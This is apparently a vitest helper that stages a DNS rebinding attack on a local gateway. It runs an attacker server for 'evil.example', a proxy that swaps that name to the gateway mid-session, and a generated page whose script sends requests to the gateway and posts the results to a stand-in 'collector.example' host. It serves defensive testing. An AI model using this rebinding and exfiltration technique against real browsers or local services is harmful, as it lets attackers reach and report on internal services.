import { createServer as createHttpServer, type RequestListener } from "node:http";
import { connect, createServer, type AddressInfo, type Server, type Socket } from "node:net";
import { onTestFinished } from "vitest";

/** What the attacker's page asks for: a POST when there is a body. */
export interface PageRequest {
  readonly path: string;
  readonly body?: string;
}

export interface Rebinding {
  /** Where the attacker's page is. */
  readonly page: string;
  /** Chromium's `--host-resolver-rules`. */
  readonly resolverRules: string;
  /** What the page was answered, request for request; 0: it may not know. */
  readonly statuses: Promise<unknown>;
}

/**
 * The site `evil.example`: its name leads to the attacker's server until its page asks for the change, and to the gateway
 * from then on. To the browser it is one site all the time.
 */
export async function startRebinding(
  gatewayPort: number,
  requests: readonly PageRequest[],
  mode: "same-origin" | "no-cors" = "same-origin",
): Promise<Rebinding> {
  const told = Promise.withResolvers<unknown>();
  const open = new Set<Socket>();
  const rebind = (): void => {
    upstream = gatewayPort;
    // A browser keeps connections at hand: those to the attacker have to end, the one with this request too.
    for (const socket of open) socket.destroy();
  };
  const attacker = await listening(createHttpServer(attackerSite(pageThatAsks(requests, mode), rebind, told.resolve)));
  let upstream = attacker;
  const name = await listening(
    createServer((socket) => {
      const other = connect({ port: upstream, host: "127.0.0.1" });
      open.add(socket);
      socket.once("close", () => open.delete(socket));
      for (const end of [socket, other]) end.on("error", () => undefined);
      socket.pipe(other).pipe(socket);
    }),
  );
  return {
    page: "http://evil.example/",
    resolverRules: `MAP evil.example 127.0.0.1:${name}, MAP collector.example 127.0.0.1:${attacker}`,
    statuses: told.promise,
  };
}

function attackerSite(page: string, rebind: () => void, told: (statuses: unknown) => void): RequestListener {
  return (request, response) => {
    if (request.method === "GET") {
      if (request.url === "/rebind") rebind();
      else response.setHeader("Content-Type", "text/html").end(page);
      return;
    }
    const chunks: Buffer[] = [];
    request
      .on("data", (chunk: Buffer) => chunks.push(chunk))
      .on("end", () => {
        response.end();
        told(JSON.parse(Buffer.concat(chunks).toString("utf8")));
      });
  };
}

function pageThatAsks(requests: readonly PageRequest[], mode: string): string {
  return `<!doctype html><link rel="icon" href="data:,"><script type="module">
await fetch("/rebind").catch(() => undefined);
const statuses = [];
for (const { path, body } of ${JSON.stringify(requests)}) {
  const headers = { "Content-Type": "application/json" };
  const init = body === undefined ? {} : { method: "POST", body, headers };
  statuses.push(await fetch(path, { ...init, mode: "${mode}" }).then((answer) => answer.status, (error) => String(error)));
}
await fetch("http://collector.example/", { method: "POST", mode: "no-cors", body: JSON.stringify(statuses) });
</script>`;
}

async function listening(server: Server): Promise<number> {
  await new Promise<void>((resolve) => {
    server.listen(0, "127.0.0.1", resolve);
  });
  onTestFinished(() => {
    server.close();
  });
  const address: AddressInfo | string | null = server.address();
  if (address === null || typeof address === "string") throw new Error("The server has no port.");
  return address.port;
}
